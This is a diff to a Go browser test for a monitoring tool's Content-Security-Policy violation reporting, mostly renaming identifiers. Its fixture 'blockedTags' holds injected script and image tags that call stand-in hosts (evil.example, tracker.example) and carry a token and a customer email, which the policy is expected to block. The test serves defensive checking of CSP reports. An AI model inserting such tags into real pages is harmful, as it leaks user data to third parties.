@@ -19,10 +19,11 @@ import (
 	"github.com/chromedp/chromedp"
 
 	"github.com/rumtop/rumtop/internal/frame"
+	"github.com/rumtop/rumtop/internal/testwait"
 )
 
-// affair is something that a browser reports of a page by itself.
-type affair struct {
+// reportCase is something that a browser reports of a page by itself.
+type reportCase struct {
 	site    string
 	page    string
 	headers map[string]string // of the page; ENDPOINT is where reports go
@@ -34,15 +35,15 @@ type affair struct {
 }
 
 const (
-	customer = "/users/8412/orders?mail=jane.fontainebleau@example.com"
-	barred   = `<script src="https://evil.example/x.js?token=fontainebleau"></script><img src="https://tracker.example/a?mail=jane.fontainebleau@example.com"><img src="https://tracker.example/b">`
+	customer    = "/users/8412/orders?mail=jane.fontainebleau@example.com"
+	blockedTags = `<script src="https://evil.example/x.js?token=fontainebleau"></script><img src="https://tracker.example/a?mail=jane.fontainebleau@example.com"><img src="https://tracker.example/b">`
 )
 
-func affairs() []affair {
+func reportCases() []reportCase {
 	defaultEndpoint := map[string]string{"Reporting-Endpoints": `default="ENDPOINT"`}
-	return []affair{
+	return []reportCase{
 		{
-			site: "policy", page: "https://shop.example" + customer, body: barred + `<p style="color:red">orders</p>`,
+			site: "policy", page: "https://shop.example" + customer, body: blockedTags + `<p style="color:red">orders</p>`,
 			headers: map[string]string{
 				"Reporting-Endpoints":                 `default="ENDPOINT"`,
 				"Content-Security-Policy":             "script-src 'self' 'unsafe-inline' 'unsafe-eval'; img-src 'self'; report-to default; report-uri ENDPOINT",
@@ -55,7 +56,7 @@ func affairs() []affair {
 			},
 		},
 		{
-			site: "olduri", page: "https://shop.example" + customer, body: barred,
+			site: "olduri", page: "https://shop.example" + customer, body: blockedTags,
 			headers: map[string]string{"Content-Security-Policy": "script-src 'self' 'unsafe-inline'; img-src 'self'; report-uri ENDPOINT"},
 			want: []string{
 				"/users/:id/orders error CSPViolation img-src blocked https://tracker.example",
@@ -122,7 +123,7 @@ func affairs() []affair {
 			site: "denied", page: "https://other.example" + customer, headers: map[string]string{
 				"Reporting-Endpoints": `default="ENDPOINT"`, "Content-Security-Policy": "img-src 'self'; report-to default",
 			},
-			body: barred,
+			body: blockedTags,
 		},
 	}
 }
@@ -150,20 +151,20 @@ func TestReporting(t *testing.T) {
 		"--listen-cert", certFile, "--listen-key", keyFile, "--metrics-listen", operators, "--forward-to", "reporting=" + vendor.URL,
 		"--origin", "https://shop.example", "--origin", "https://*.shop.example", "--origin", "http://shop.localhost",
 	}
-	for _, a := range affairs() {
+	for _, a := range reportCases() {
 		flags = append(flags, "--site", a.site+"="+a.key())
 	}
-	r := newRig(t, newPrograms(t), flags...)
+	r := newHarness(t, buildPrograms(t), flags...)
 
 	shop := http.HandlerFunc(servePage)
 	plain := httptest.NewServer(shop)
 	t.Cleanup(plain.Close)
 	var api *httptest.Server
 	api = secure(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) { serveAPI(w, req, api) }))
-	hop := newLossy(t, r.edge)
+	hop := newLossyProxy(t, r.url)
 	names := map[string]string{
 		"shop.example": address(secure(shop)), "other.example": address(secure(shop)), "shop.localhost": address(plain),
-		"api.shop.example": address(api), "lossy.example": address(secure(hop)), "rum.example": strings.TrimPrefix(r.edge, "http://"),
+		"api.shop.example": address(api), "lossy.example": address(secure(hop)), "rum.example": strings.TrimPrefix(r.url, "http://"),
 		"*.api.shop.example": "~NOTFOUND", "evil.example": "~NOTFOUND", "tracker.example": "~NOTFOUND",
 	}
 	var rules []string
@@ -177,48 +178,48 @@ func TestReporting(t *testing.T) {
 		chromedp.Flag("short-reporting-delay", true),
 		chromedp.Flag("host-resolver-rules", strings.Join(rules, ", ")),
 	})
-	for _, a := range affairs() {
+	for _, a := range reportCases() {
 		t.Run(a.site, func(t *testing.T) {
 			r := *r
 			r.t, r.site = t, a.site
-			a.happen(t, tabs)
+			a.openPage(t, tabs)
 			if len(a.want) > 0 {
-				r.settles(func(f *frame.Frame) []string { return a.wrong(&r, f) })
+				r.waitForMatch(func(f *frame.Frame) []string { return a.mismatches(&r, f) })
 			}
 		})
 	}
-	until(t, "what got no answer is sent again", func() bool { return kept.count("resent", "NavigatorVibrate") == 2 })
+	testwait.Until(t, "what got no answer is sent again", func() bool { return kept.count("resent", "NavigatorVibrate") == 2 })
 	// Whatever was to come more has come by now.
-	for _, a := range affairs() {
+	for _, a := range reportCases() {
 		r := *r
 		r.site = a.site
-		for _, c := range a.wrong(&r, r.frame("--by", "page")) {
+		for _, c := range a.mismatches(&r, r.frame("--by", "page")) {
 			t.Errorf("%s, in the end: %s", a.site, c)
 		}
 	}
-	r.edge = "http://" + operators
-	if n := (&arena{rig: r}).metric(`requests_denied_total{reason="origin"}`); n == 0 {
+	r.url = "http://" + operators
+	if n := (&attackTarget{harness: r}).metric(`requests_denied_total{reason="origin"}`); n == 0 {
 		t.Errorf("no preflight of a foreign origin was denied")
 	}
-	r.keepsPrivate()
-	kept.keep(t, tabs)
+	r.checkPrivacy()
+	kept.saveFixture(t, tabs)
 }
 
-func (a *affair) key() string { return "pk_" + a.site }
+func (a *reportCase) key() string { return "pk_" + a.site }
 
-func (a *affair) endpoint() string {
+func (a *reportCase) endpoint() string {
 	return "https://" + cmp.Or(a.through, "rum.example") + "/reports?scene=" + a.site + "&key=" + a.key()
 }
 
-// servePage is the shop. What a page is like stands in affairs.
+// servePage is the shop. What a page is like stands in reportCases.
 func servePage(w http.ResponseWriter, req *http.Request) {
 	var status int
 	if _, err := fmt.Sscanf(req.URL.Path, "/status/%d", &status); err == nil {
 		w.WriteHeader(status)
 		return
 	}
-	all := affairs()
-	i := slices.IndexFunc(all, func(a affair) bool { return a.site == req.URL.Query().Get("scene") })
+	all := reportCases()
+	i := slices.IndexFunc(all, func(a reportCase) bool { return a.site == req.URL.Query().Get("scene") })
 	if i < 0 {
 		w.WriteHeader(http.StatusNoContent)
 		return
@@ -251,12 +252,12 @@ func serveAPI(w http.ResponseWriter, req *http.Request, api *httptest.Server) {
 
 func address(s *httptest.Server) string { return s.Listener.Addr().String() }
 
-// happen opens the page, in a profile of its own, and leaves it open.
-func (a *affair) happen(t *testing.T, tabs context.Context) {
+// openPage opens the page, in a profile of its own, and leaves it open.
+func (a *reportCase) openPage(t *testing.T, tabs context.Context) {
 	p := &page{t: t}
 	tab, cancel := chromedp.NewContext(tabs, chromedp.WithNewBrowserContext())
 	t.Cleanup(cancel)
-	p.ctx, cancel = context.WithTimeout(tab, patience)
+	p.ctx, cancel = context.WithTimeout(tab, testwait.Patience)
 	t.Cleanup(cancel)
 	if err := chromedp.Do(p.ctx, chromedp.Navigate(a.page+"&scene="+a.site)); err != nil {
 		t.Fatalf("open %s: %v", a.page, err)
@@ -271,8 +272,8 @@ func (a *affair) happen(t *testing.T, tabs context.Context) {
 	}
 }
 
-// wrong compares what viewers are told with what happened.
-func (a *affair) wrong(r *rig, f *frame.Frame) (complaints []string) {
+// mismatches compares what viewers are told with what happened.
+func (a *reportCase) mismatches(r *harness, f *frame.Frame) (complaints []string) {
 	errors, failed := 0, 0
 	for _, w := range a.want {
 		if strings.Contains(w, " error ") {
@@ -287,7 +288,7 @@ func (a *affair) wrong(r *rig, f *frame.Frame) (complaints []string) {
 	}
 	var told []string
 	if f.Health.Retained > 0 {
-		told = accounts(r.t, r.tail())
+		told = tailLines(r.t, r.tail())
 	}
 	if !slices.Equal(told, a.want) {
 		complaints = append(complaints, fmt.Sprintf("told\n\t%s\nwant\n\t%s", strings.Join(told, "\n\t"), strings.Join(a.want, "\n\t")))
@@ -295,8 +296,8 @@ func (a *affair) wrong(r *rig, f *frame.Frame) (complaints []string) {
 	return complaints
 }
 
-// accounts are the lines of rumtop tail, a word each for all that they tell.
-func accounts(t *testing.T, rows []string) (told []string) {
+// tailLines are the lines of rumtop tail, a word each for all that they tell.
+func tailLines(t *testing.T, rows []string) (told []string) {
 	t.Helper()
 	for _, row := range rows {
 		var b struct {
